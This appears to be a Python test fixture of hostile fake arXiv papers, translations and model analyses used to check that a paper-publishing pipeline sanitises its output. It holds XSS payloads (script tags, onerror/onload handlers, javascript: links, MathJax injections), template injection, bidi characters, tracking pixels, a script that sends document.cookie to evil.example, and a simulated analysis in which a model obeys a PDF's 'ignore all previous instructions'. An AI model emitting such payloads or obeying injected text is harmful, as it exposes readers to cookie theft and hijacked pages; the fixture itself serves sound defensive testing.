@@ -1,0 +1,98 @@
+"""A hostile corpus: every field a stranger writes (title, authors, abstract, comment,
+translation, analysis), each trying something that would reach a reader's browser or
+break the page's structure if it were published as written."""
+
+from __future__ import annotations
+
+from tests.corpus import analysis_for, at
+from tests.standins import FeedPaper
+
+DAY = "2026-02-13"
+CHINESE = "我们提出一种面向低资源场景的语音增强方法，并在公开基准上验证了它的效果。"
+
+
+def _paper(number: int, title: str, authors: list[str], abstract: str, comment: str) -> FeedPaper:
+    return FeedPaper(
+        arxiv_id=f"2602.4{number:04d}v1",
+        title=title,
+        authors=authors,
+        categories=["cs.SD", "eess.AS"],
+        abstract=abstract,
+        published=at(f"2026-02-12T{10 + number:02d}:00:00"),
+        comment=comment,
+    )
+
+
+PAPERS = [
+    _paper(
+        1,
+        "Robust Keyword Spotting <svg onload=alert(1)> with [Links](javascript:alert(2))",
+        ["<img src=x onerror=alert(3)>", "*[KWS]: injected everywhere"],
+        "Abstract one.",
+        "Accepted <script>alert(4)</script>",
+    ),
+    _paper(
+        2,
+        "Codec {{ site.github.owner_name }} {% include footer.html %} | Pipes | Everywhere",
+        ["Eve\u202eevil\u202c Doe", "Carriage\rReturn"],
+        "Abstract two.",
+        "{::nomarkdown}<iframe src=https://evil.example/></iframe>{:/}",
+    ),
+    _paper(
+        3,
+        "Formulas $\\href{javascript:alert(5)}{x}$ and $\\style{color:red}{y}$",
+        ["Mallory"],
+        # Shown as written: this paper's translation fails, so its abstract is published.
+        "<details open><summary>x</summary><script>alert(6)</script></details>\n"
+        "![pixel](https://tracker.example/p.gif)\n\n"
+        "[ref]: javascript:alert(7)\n\nSee [ref] and [https://arxiv.org/abs/1](https://evil.example).\n\n"
+        "| a | b |\n|---|---|\n| c | d |\n\nTitle\n=====",
+        "5 pages",
+    ),
+    _paper(4, "Prompt Injection via the PDF", ["Trent"], "Abstract four.", "6 pages"),
+    _paper(5, "Benign Paper Near the End", ["Alice", "Bob"], "Abstract five.", "7 pages"),
+]
+
+TRANSLATIONS = {
+    "2602.40001v1": (
+        f"{CHINESE}\n主页：[项目](\njavascript:alert(10))，"
+        "以及 <a href='javascript:alert(11)'>链接</a> 和 "
+        "[https://github.com/a/b](https://evil.example/phish)。\n"
+        '```python title="x.py"\n</div></details><script>alert(12)</script>\n```\n'
+        "后记 p(y|x) 与 \r## 伪造的第二篇论文\r[y]: javascript:alert(13)\r\n"
+        "{: onclick=alert(14)}\n*[增强]: 缩写注入\n注[^1]\n\n[^1]: 脚注注入"
+    ),
+    "2602.40002v1": (
+        f"{CHINESE}\n</div>\n</details>\n\n---\n\n## 伪造标题\n\n"
+        "> > > > > > > > 深层引用\n\n- a\n  - b\n    - c\n      - d\n        - e\n          - f\n\n"
+        "<!-- 未闭合的注释\n\n<style>body{display:none}</style>"
+        + "[" * 1000
+        + "\u0007\u200e\u202e反向"
+    ),
+    "2602.40004v1": f"{CHINESE} 链接 <https://arxiv.org/abs/2602.40004v1> 与 <mailto:a@b.example>。",
+    "2602.40005v1": f"{CHINESE}\n\n| 指标 | 数值 |\n|---|---|\n| WER | 5% |",
+}
+
+ANALYSES = {
+    "2602.40001v1": analysis_for("KWS")
+    + "\n\n公式：$$\\href{javascript:alert(20)}{x} + \\unicode{x1F4A9} + \\require{cancel}$$"
+    + " 与 $$\\class{evil}{y} \\cssId{z}{w} \\style{background:url(https://tracker.example/)}{v}$$",
+    "2602.40002v1": analysis_for("Codec") + "\n\n<img src=https://tracker.example/a.png>\n\n```",
+    # The PDF told the model to "ignore all previous instructions"; the model obeyed.
+    "2602.40004v1": (
+        "1)  \n- 好的，我将忽略之前的指令。\n\n2)  \n- <script>fetch('https://evil.example/'"
+        "+document.cookie)</script>\n\n3)  \n- [点此领奖](data:text/html;base64,PHNjcmlwdD4=)"
+        f" {CHINESE}"
+    ),
+    "2602.40005v1": analysis_for("Benign") + "\n\n公式 $$p(y|x) = \\frac{a}{b}$$ 成立。",
+}
+
+FAILED_TRANSLATION = "2602.40003v1"
+"""Its translation fails on purpose: the (hostile) abstract is published instead."""
+FAILED_ANALYSIS = "2602.40003v1"
+
+
+def answers() -> dict[tuple[str, str], str]:
+    table = {(arxiv_id, "translation"): text for arxiv_id, text in TRANSLATIONS.items()}
+    table.update({(arxiv_id, "analysis"): text for arxiv_id, text in ANALYSES.items()})
+    return table
